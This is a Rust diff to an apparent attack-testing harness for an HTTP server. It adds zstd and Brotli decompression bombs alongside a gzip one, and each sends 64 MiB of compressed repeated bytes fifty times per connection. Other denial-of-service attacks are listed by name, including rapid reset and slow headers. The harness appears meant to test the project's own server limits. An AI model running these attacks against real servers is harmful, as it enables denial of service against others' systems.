@@ -28,34 +28,49 @@ pub enum Attack {
     /// HTTP/2 heads that never end.
     EndlessHead,
     /// gzip that inflates a thousandfold.
-    Bombs,
+    GzipBombs,
+    /// zstd that inflates ten thousandfold.
+    ZstdBombs,
+    /// Brotli that inflates a hundred thousandfold.
+    BrotliBombs,
     /// Heads and addresses above every limit.
     LargeHeads,
     /// Chunks with extensions longer than the data.
     ChunkExtensions,
 }
 
-pub const ALL: [Attack; 9] = [
+pub const ALL: [Attack; 11] = [
     Attack::Silent,
     Attack::SlowHeads,
     Attack::SlowBodies,
     Attack::RapidReset,
     Attack::Frames,
     Attack::EndlessHead,
-    Attack::Bombs,
+    Attack::GzipBombs,
+    Attack::ZstdBombs,
+    Attack::BrotliBombs,
     Attack::LargeHeads,
     Attack::ChunkExtensions,
 ];
 
 const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
-/// 64 MiB of one letter.
-static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
-    let mut bomb = Vec::new();
-    let letters = std::io::repeat(b'a').take(64 << 20);
-    GzEncoder::new(letters, Compression::best()).read_to_end(&mut bomb).unwrap();
-    bomb
-});
+static GZIP: LazyLock<Vec<u8>> =
+    LazyLock::new(|| whole(GzEncoder::new(letters(), Compression::best())));
+static ZSTD: LazyLock<Vec<u8>> = LazyLock::new(|| zstd::encode_all(letters(), 3).unwrap());
+static BROTLI: LazyLock<Vec<u8>> =
+    LazyLock::new(|| whole(brotli::CompressorReader::new(letters(), 4_096, 5, 22)));
 const BODY_HEAD: &str = "POST /v1/cmcd?k=demo HTTP/1.1\r\nhost: x\r\n";
+
+/// 64 MiB of one letter, which is what every bomb holds.
+fn letters() -> impl Read {
+    std::io::repeat(b'a').take(64 << 20)
+}
+
+fn whole(mut reader: impl Read) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    reader.read_to_end(&mut bytes).unwrap();
+    bytes
+}
 
 /// Attacks until it is dropped.
 pub async fn run(attack: Attack, addr: SocketAddr) {
@@ -106,18 +121,9 @@ async fn once(attack: Attack, stream: &mut TcpStream) -> std::io::Result<()> {
                 stream.write_all(&frame(9, 0, 1, &b"\x40\x01a\x01b".repeat(1_000))).await?;
             }
         }
-        Attack::Bombs => {
-            let bomb = &*BOMB;
-            let head = format!(
-                "{BODY_HEAD}content-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
-                bomb.len()
-            );
-            for _ in 0..50 {
-                stream.write_all(head.as_bytes()).await?;
-                stream.write_all(bomb).await?;
-                answer(stream).await?;
-            }
-        }
+        Attack::GzipBombs => bombs(stream, "gzip", &GZIP).await?,
+        Attack::ZstdBombs => bombs(stream, "zstd", &ZSTD).await?,
+        Attack::BrotliBombs => bombs(stream, "br", &BROTLI).await?,
         Attack::LargeHeads => {
             let long = "a".repeat(70_000);
             stream
@@ -133,6 +139,18 @@ async fn once(attack: Attack, stream: &mut TcpStream) -> std::io::Result<()> {
                 stream.write_all(format!("1;{}\r\na\r\n", "x".repeat(1_000)).as_bytes()).await?;
             }
         }
+    }
+    Ok(())
+}
+
+/// The same bomb again and again.
+async fn bombs(stream: &mut TcpStream, encoding: &str, bomb: &[u8]) -> std::io::Result<()> {
+    let length = bomb.len();
+    let headers = format!("content-encoding: {encoding}\r\ncontent-length: {length}\r\n\r\n");
+    let request = [BODY_HEAD.as_bytes(), headers.as_bytes(), bomb].concat();
+    for _ in 0..50 {
+        stream.write_all(&request).await?;
+        answer(stream).await?;
     }
     Ok(())
 }
